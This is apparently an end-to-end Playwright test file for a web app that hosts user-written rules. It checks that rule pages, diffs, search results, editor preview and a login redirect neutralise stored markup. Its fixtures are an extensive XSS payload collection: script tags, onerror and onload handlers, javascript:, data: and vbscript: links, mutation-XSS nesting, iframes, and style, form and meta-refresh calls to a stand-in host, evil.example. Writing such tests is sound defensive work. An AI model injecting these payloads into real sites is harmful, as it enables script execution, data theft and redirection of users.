import type { Page } from 'playwright-core';
import { useBrowser } from './support/browser';
import { visit } from './support/visit';
import { aPerson, aRuleOf, call, type Person, signIn } from './support/people';

const visitors = useBrowser();

/** Attacks in a rule's text; each would set `window.ran` or send a request to another host. */
const PAYLOADS = `# Title <script>window.ran = 'heading'</script>

<script>window.ran = 'script'</script>
<script src="https://evil.example/script.js"></script>
<img src=x onerror="window.ran = 'img'">
<svg onload="window.ran = 'svg'"><script>window.ran = 'svg script'</script></svg>
<svg><a xlink:href="javascript:window.ran='svg link'"><text y="20">svg link</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.ran='math'"></style></mglyph></table></mtext></math>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<style>@import url(https://evil.example/style.css); body { display: none }</style>
<link rel="stylesheet" href="https://evil.example/link.css">
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<form action="https://evil.example/form"><button>send</button></form>
<details open ontoggle="window.ran = 'details'">details</details>
<video src="https://evil.example/video" autoplay onerror="window.ran='video'"></video>
<p style="background: url(https://evil.example/background.png)">styled</p>
<div id="main" class="skip" name="forms">clobbered</div>

[plain link](javascript:window.ran='link') [entities](&#106;avascript:window.ran='entities')
[tab](java\tscript:window.ran='tab') [data](data:text/html,<script>opener.ran='data'</script>) [vb](vbscript:window.ran='vb')
<javascript:window.ran='autolink'>

![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
![remote image](https://evil.example/pixel.png) ![relative](/logout)
![onerror]("onerror="window.ran='attribute')

\`\`\`html "><script>window.ran='fence'</script>
</code></pre><script>window.ran = 'code'</script>
\`\`\`

| a |
| - |
| <img src=x onerror="window.ran='table'"> |

{{<img src=x onerror="window.ran='variable'">}} {{name"><script>window.ran='variable 2'</script>}}
`;

const FRONT_MATTER = `---
name: "<script>window.ran = 'front matter'</script>"
"<img src=x onerror=window.ran='key'>": "javascript:window.ran=1"
---
`;

const DESCRIPTION = `<img src=x onerror="window.ran='description'"></script><script>window.ran='description script'</script>`;
const NEVER = [
  'script[src^="https://evil"]',
  'iframe',
  'object',
  'embed',
  'math',
  'base',
  'main form[action^="http"]',
];

let author: Person;
let address: string;

beforeAll(async () => {
  author = await aPerson('mallory');
  const name = 'hostile';
  const rule = await aRuleOf(author, {
    name,
    description: DESCRIPTION,
    content: FRONT_MATTER + PAYLOADS,
    tags: ['"><svg/onload=ran=1>'],
  });
  address = rule.address;
  const changes = { content: `${FRONT_MATTER}${PAYLOADS}\n<img src=x onerror="window.ran='diff'">\n` };
  await call(
    '/api/rules/update',
    { id: rule.id, ...changes, changelog: '<script>window.ran="changelog"</script>' },
    author,
  );
});

/** Opens a page, gives scripts time to run, and clicks every link that does not lead to an address. */
async function expectHarmless(page: Page, path: string): Promise<void> {
  await visit(page, path);
  await expectNothingRan(page);
}

async function expectNothingRan(page: Page): Promise<void> {
  expect(await page.evaluate('window.ran')).toBeUndefined();
  for (const selector of NEVER)
    expect([selector, await page.locator(selector).count()]).toEqual([selector, 0]);
  const schemes = await page
    .locator('main a')
    .evaluateAll((links) =>
      links.map((link) => new URL((link as unknown as { href: string }).href).protocol),
    );
  expect(schemes.filter((scheme) => !/^(?:https?|mailto):$/.test(scheme))).toEqual([]);
  const handlers = await page.evaluate<number>(
    `[...document.querySelectorAll('main *')].filter((node) => [...node.attributes].some(({ name }) => /^on/.test(name))).length`,
  );
  expect(handlers).toBe(0);
}

describe('a rule full of scripts', () => {
  it.each([
    ['on its page', ''],
    ['as its source', '?view=raw'],
    ['in its first version', '?version=1.0.0'],
    ['among its versions', '?tab=versions'],
    ['as a difference', '?from=1.0.0&to=1.0.1'],
  ])('runs and loads nothing %s', async (_where, query) => {
    const page = await visitors.open();
    await expectHarmless(page, address + query);
  });

  it.each(['list', 'grid'])('runs and loads nothing in search results (%s)', async (view) => {
    const page = await visitors.open();
    await expectHarmless(page, `/rules?q=hostile&author=${author.username}&view=${view}`);
    await page.locator('main').getByText('onerror').first().waitFor();
  });

  it('runs and loads nothing on its author’s page', async () => {
    const page = await visitors.open();
    await expectHarmless(page, `/user/${author.username}`);
  });

  it('runs and loads nothing in the editor’s preview', async () => {
    const page = await visitors.open();
    await signIn(page, author);
    await visit(page, '/rules/new');
    await page.getByRole('textbox', { name: '本文' }).fill(FRONT_MATTER + PAYLOADS);
    await page.getByRole('region', { name: 'プレビュー' }).getByText('plain link').waitFor();
    await expectNothingRan(page);
    await expectHarmless(page, `${address}/edit`);
  });

  it('runs and loads nothing in the palette', async () => {
    const page = await visitors.open();
    await visit(page, '/');
    await page.keyboard.press('Control+k');
    await page.getByRole('combobox').fill('hostile');
    await page.getByRole('option', { name: 'hostile' }).first().waitFor();
    await expectNothingRan(page);
  });

  it('is shown verbatim in the source view', async () => {
    const page = await visitors.open();
    await page.goto(`${address}?view=raw`);
    expect(await page.locator('main pre').first().textContent()).toContain(PAYLOADS.trim());
  });

  it('is escaped where a search query is quoted', async () => {
    const page = await visitors.open();
    await expectHarmless(page, `/rules?q=${encodeURIComponent(DESCRIPTION.slice(0, 80))}`);
    await expectHarmless(page, `/login?redirect=${encodeURIComponent(`/"><script>window.ran=1</script>`)}`);
  });
});
